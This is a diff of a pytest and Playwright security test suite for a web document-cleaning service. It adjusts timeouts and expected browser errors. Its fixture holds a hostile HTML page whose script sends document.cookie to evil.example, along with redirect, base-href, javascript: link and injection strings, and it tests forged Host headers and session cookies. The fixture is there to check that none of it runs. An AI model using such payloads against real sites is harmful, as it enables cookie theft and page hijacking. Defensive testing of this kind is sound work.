@@ -13,9 +13,10 @@ from typing import Any
 import httpx
 import pytest
 from browsing import Tab
-from service_process import RunningService
+from service_process import PLAIN, RunningService
 
 KEY = "a-key-that-is-long-enough"
+PATIENT = {"timeout": 90, **PLAIN}  # a busy machine may take more than the five seconds that httpx waits
 HOSTILE = """<!doctype html><html><head><title>\u202eevil\x1b[31m</title><base href="https://evil.example/">
 <meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
 <script>document.title = 'ran'; fetch('https://evil.example/' + document.cookie)</script></head>
@@ -32,6 +33,7 @@ HOSTILE = """<!doctype html><html><head><title>\u202eevil\x1b[31m</title><base h
 
 def test_u01_nothing_of_a_hostile_page_runs(tab: Tab, service: RunningService) -> None:
     """In any view no script runs, nothing is loaded from elsewhere, no element of the page stands in ours."""
+    tab.expected.append("404")  # a frame seen alone has no icon
     tab.give(HOSTILE)
     document = tab.page.url
     for view in ("", "?view=side", "?view=page", "?block=0", "/evidence", "/frame"):
@@ -40,7 +42,6 @@ def test_u01_nothing_of_a_hostile_page_runs(tab: Tab, service: RunningService) -
         assert tab.page.locator(foreign).count() == 0
         scripts = tab.page.locator("script").evaluate_all("all => all.map(one => one.src.split('/').pop())")
         assert scripts == ([] if view in {"/frame", "/evidence"} else ["app.js", "look.js"])
-    tab.complaints = [one for one in tab.complaints if "404" not in one]  # a frame seen alone has no icon
     assert [url for url in tab.asked if not url.startswith(service.url)] == []
     tab.page.goto(document)
     assert "<script>alert(5)</script> {{ 7 * 7 }}" in tab.page.locator("#blocks").inner_text()
@@ -67,7 +68,7 @@ about the <a href="javascript:alert(1)">harbour wall</a>, which had begun to lea
 def test_u03_links_lead_to_the_web_and_are_marked(tab: Tab) -> None:
     """Those of a body as HTML, and the one from a document's page to where it came from."""
     item = {"html": LINKS, "source_url": "https://example.org/minutes"}
-    job = tab.page.request.post("/v1/jobs", data=item, headers={"prefer": "wait=30"}).json()
+    job = tab.page.request.post("/v1/jobs", data=item, headers={"prefer": "wait=60"}).json()
     tab.page.goto(f"/documents/{job['result']['source_id']}")
     body = tab.page.request.get(f"{tab.page.url}/as/html").text()
     links = re.findall(r"<a ([^>]*)>", body)
@@ -101,7 +102,7 @@ def test_u05_a_title_of_any_kind_is_isolated(tab: Tab) -> None:
     places = []
     for kind, title in TITLES.items():
         item = {"text": f"The quay was closed on Monday, the office said of it, {kind}.", "title": title}
-        job = tab.page.request.post("/v1/jobs", data=item, headers={"prefer": "wait=30"}).json()
+        job = tab.page.request.post("/v1/jobs", data=item, headers={"prefer": "wait=60"}).json()
         judged = {"source_id": job["result"]["source_id"], "block": 0, "judgement": "remove", "reason": title[:900]}
         assert tab.page.request.post("/v1/feedback", data=judged).status == 201
         places.append(f"/documents/{job['result']['source_id']}")
@@ -121,7 +122,7 @@ def test_u05_a_title_of_a_megabyte_is_cut(tab: Tab) -> None:
     """And the page stays usable."""
     job = tab.page.request.post(
         "/v1/jobs", data={"html": f"<title>{'x' * 1_000_000}</title><p>A short paragraph that stays as it is."},
-        headers={"prefer": "wait=30"},
+        headers={"prefer": "wait=60"},
     ).json()  # fmt: skip
     tab.page.goto(f"/documents/{job['result']['source_id']}")
     assert len(tab.page.locator("h1").inner_text()) <= 300
@@ -131,7 +132,7 @@ def test_u05_a_title_of_a_megabyte_is_cut(tab: Tab) -> None:
 @pytest.mark.parametrize("path", ["/", "/documents", "/jobs", "/feedback", "/docs", "/login", "/static/app.js", "/no"])
 def test_u02_every_page_carries_the_safe_headers(service: RunningService, path: str) -> None:
     """A policy without anything inline, no sniffing, no framing, no referrer, UTF-8."""
-    answer = httpx.get(service.url + path, headers={"accept": "text/html"})
+    answer = httpx.get(service.url + path, headers={"accept": "text/html"}, **PATIENT)
     policy = answer.headers["content-security-policy"]
     assert policy.startswith("default-src 'none'")
     assert "unsafe" not in policy
@@ -143,17 +144,17 @@ def test_u02_every_page_carries_the_safe_headers(service: RunningService, path: 
 @pytest.mark.parametrize("path", ["/no", "/no/such/place", "/jobs/x", "/documents/0", "/submit"])
 def test_a_browser_is_told_of_errors_by_pages(service: RunningService, path: str) -> None:
     """A browser gets a page with the way back, a program a problem document; below /v1 everybody does."""
-    page = httpx.get(service.url + path, headers={"accept": "text/html,*/*;q=0.8"})
+    page = httpx.get(service.url + path, headers={"accept": "text/html,*/*;q=0.8"}, **PATIENT)
     assert page.status_code in {404, 405}
     assert 'id="problem"' in page.text
     assert "Clean something else" in page.text
-    under = httpx.get(f"{service.url}/v1{path}", headers={"accept": "text/html"})
+    under = httpx.get(f"{service.url}/v1{path}", headers={"accept": "text/html"}, **PATIENT)
     assert under.headers["content-type"] == "application/problem+json"
 
 
 def test_a_browser_is_told_of_a_foreign_name_by_a_page(service: RunningService) -> None:
     """What the gate refuses before anything is read is a page too."""
-    foreign = httpx.get(service.url, headers={"accept": "text/html", "host": "evil.example"})
+    foreign = httpx.get(service.url, headers={"accept": "text/html", "host": "evil.example"}, **PATIENT)
     assert foreign.status_code == 400
     assert 'id="problem"' in foreign.text
     assert "this host name is not served here" in foreign.text
@@ -189,7 +190,9 @@ def test_u04_a_form_without_its_token_changes_nothing(service: RunningService, p
 @pytest.mark.parametrize("path", ["/submit", "/v1/jobs", "/v1/clean", "/v1/feedback"])
 def test_u04_another_site_changes_nothing(service: RunningService, path: str, headers: dict[str, str]) -> None:
     """Whatever the browser would send along: 403 before anything is read."""
-    answer = httpx.post(service.url + path, content="A text.", headers={"content-type": "text/plain", **headers})
+    answer = httpx.post(
+        service.url + path, content="A text.", headers={"content-type": "text/plain", **headers}, **PATIENT
+    )
     assert answer.status_code == 403
 
 
@@ -211,12 +214,12 @@ def keyed(browser: Any) -> Iterator[RunningService]:
 def test_behind_a_key(open_tab: Callable[..., Tab], keyed: RunningService) -> None:
     """A browser is asked for its key once, is led to where it was going, and out again."""
     tab = open_tab(url=keyed.url)
+    tab.expected.append("401")  # the answer to a wrong key
     tab.page.goto("/jobs?status=failed")
     tab.page.wait_for_url("**/login?to=*")
     tab.page.get_by_label("API key").fill("wrong")
     tab.page.get_by_role("button", name="Sign in").click()
     tab.page.get_by_text("That is not a key").wait_for()
-    tab.complaints.clear()  # the browser notes the 401
     tab.page.get_by_label("API key").fill(KEY)
     tab.page.get_by_role("button", name="Sign in").click()
     tab.page.wait_for_url("**/jobs?status=failed")
@@ -225,9 +228,9 @@ def test_behind_a_key(open_tab: Callable[..., Tab], keyed: RunningService) -> No
     assert KEY not in session["value"]
     tab.give("A text that belongs to me, and to nobody else who has a key of this service.")
     mine = tab.page.url
-    yours = httpx.get(mine, headers={"x-api-key": f"{KEY}-of-you"})
+    yours = httpx.get(mine, headers={"x-api-key": f"{KEY}-of-you"}, **PATIENT)
     assert yours.status_code == 404
-    assert httpx.get(mine, headers={"x-api-key": KEY}).status_code == 200
+    assert httpx.get(mine, headers={"x-api-key": KEY}, **PATIENT).status_code == 200
     tab.page.get_by_role("button", name="Sign out").click()
     tab.page.wait_for_url("**/login")
     tab.page.goto(mine)
@@ -237,7 +240,7 @@ def test_behind_a_key(open_tab: Callable[..., Tab], keyed: RunningService) -> No
 def test_a_session_of_another_key_or_time_is_none(keyed: RunningService) -> None:
     """A forged, changed or foreign cookie is no key."""
     for value in ("", "x", f"{'0' * 16}.9999999999.{'0' * 64}", f"{'0' * 16}.1.{'0' * 64}"):
-        answer = httpx.get(f"{keyed.url}/v1/jobs", cookies={"cleaner_session": value})
+        answer = httpx.get(f"{keyed.url}/v1/jobs", cookies={"cleaner_session": value}, **PATIENT)
         assert answer.status_code == 401
 
 
@@ -253,7 +256,7 @@ def proxy(target: str, prefix: str) -> Iterator[str]:
             body = self.rfile.read(int(self.headers.get("content-length", 0)))
             headers = {name: value for name, value in self.headers.items() if name.lower() != "connection"}
             answer = httpx.request(
-                self.command, target + self.path.removeprefix(prefix), headers=headers, content=body, timeout=60
+                self.command, target + self.path.removeprefix(prefix), headers=headers, content=body, **PATIENT
             )
             self.send_response(answer.status_code)
             for name, value in answer.headers.multi_items():
@@ -294,9 +297,11 @@ def test_below_a_path_and_behind_a_key(open_tab: Callable[..., Tab], keyed: Runn
         gone.hover()
         gone.get_by_role("button").click()
         tab.page.locator(".b.hand").first.wait_for()
-        for name in ("Jobs", "Feedback", "Documents", "API", "Clean"):
+        for name, place in (
+            ("Jobs", "jobs"), ("Feedback", "feedback"), ("Documents", "documents"), ("API", "docs"), ("Clean", "")
+        ):  # fmt: skip
             tab.page.get_by_role("link", name=name, exact=True).click()
-            tab.page.locator("h1").wait_for()
+            tab.page.wait_for_url(f"{root}/{place}")
         tab.page.wait_for_load_state("networkidle")
         assert all(url.startswith(root) for url in tab.asked)
         tab.page.goto("about:blank")  # nothing may be on its way when the proxy ends
@@ -310,6 +315,7 @@ def test_axe_finds_no_serious_fault(open_tab: Callable[..., Tab], place: str) ->
     """Contrast, names, roles, order of headings: nothing serious or critical on any page, light or dark."""
     axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe-playwright-python is not installed")
     tab = open_tab(viewport={"width": 1280, "height": 900}, bypass_csp=True)
+    tab.expected.append("404")  # one of the pages says that there is no such document
     if place in PLACES:
         tab.page.goto(place)
     else:
@@ -329,5 +335,4 @@ def test_axe_finds_no_serious_fault(open_tab: Callable[..., Tab], place: str) ->
             for one in axe.Axe().run(tab.page).response["violations"]
             if one["impact"] in {"serious", "critical"}
         ]
-    tab.complaints.clear()  # the browser notes a 404
     assert serious == []
